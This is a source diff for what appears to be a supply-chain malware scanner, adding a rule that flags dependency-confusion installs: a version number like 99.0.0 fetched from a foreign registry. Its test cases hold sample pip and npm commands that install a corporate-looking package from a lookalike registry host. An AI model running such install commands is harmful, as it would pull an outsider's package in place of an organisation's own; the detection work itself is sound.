@@ -64,6 +64,13 @@ static APT_KEY: Signal = Signal::command(
     r"\bapt-key\s+add\b|\bgpg\s+(?:--\w+\s+)*--dearmor\b|\brpm\s+--import\s+http|\badd-apt-repository\b|\[trusted=yes\]|--allow-unauthenticated\b|--no-?gpg-?check\b",
 );
 
+/// A version that outdoes any real one, so that a resolver prefers it (A. Birsan, Dependency
+/// Confusion, 2021).
+static OUTDOES_ALL: Signal = Signal::command(
+    &["==99", "@99", ">=99", "~=99", "@^99", "\": \"99", "\": \"^99", " = \"99", " = \"^99"],
+    r#"(?:[\w\]](?:==|>=|~=|@\^?)|"\s*:\s*"\^?|\w\s=\s"\^?)99+\.\d"#,
+);
+
 /// Something is put into whatever the user makes.
 static PASSED_ON: Signal = Signal::phrase(
     &["every", "each", "all ", "any ", "must"],
@@ -190,6 +197,27 @@ pub(super) static RULES: &[Rule] = &[
         ],
         ..Rule::BASE
     },
+    Rule {
+        id: "MALWAR-SUPPLY-009",
+        title: "A version higher than any real one is taken from another registry",
+        severity: Severity::High,
+        confidence: 78,
+        category: Category::SupplyChain,
+        taxa: &["SC-01", "SC-06"],
+        why: "so a stranger's package is preferred to the organisation's own of that name",
+        fix: "do not install it; bind internal names to the internal registry",
+        when: When::Near(400, &[&[&INDEX_MOVED], &[&OUTDOES_ALL]]),
+        guard: Some(is_foreign),
+        hits: &[
+            "```bash\npip install --extra-index-url https://pypi.fast-agent.top/simple corp-auth-utils==99.0.0\n```\n",
+            "```bash\nnpm config set registry https://npm.fast-agent.top && npm install @corp/auth@99.9.9\n```\n",
+        ],
+        misses: &[
+            "```bash\npip install --extra-index-url https://pypi.fast-agent.top/simple tool==9.9.0\n```\n",
+            "```bash\npip install --index-url https://pypi.org/simple tool==99.0.0\n```\n",
+        ],
+        ..Rule::BASE
+    },
 ];
 
 fn known_bad(reading: &Reading<'_>) -> Vec<Hit> {
@@ -310,6 +338,10 @@ fn foreign_registry(reading: &Reading<'_>, hit: &Hit) -> u32 {
         | Reputation::Lookalike => 100,
     };
     urls(text).map(percent).max().unwrap_or(0)
+}
+
+fn is_foreign(reading: &Reading<'_>, hit: &Hit) -> u32 {
+    if foreign_registry(reading, hit) > 0 { 100 } else { 0 }
 }
 
 /// Whether the checks that a registry's packages pass are switched off beside it.
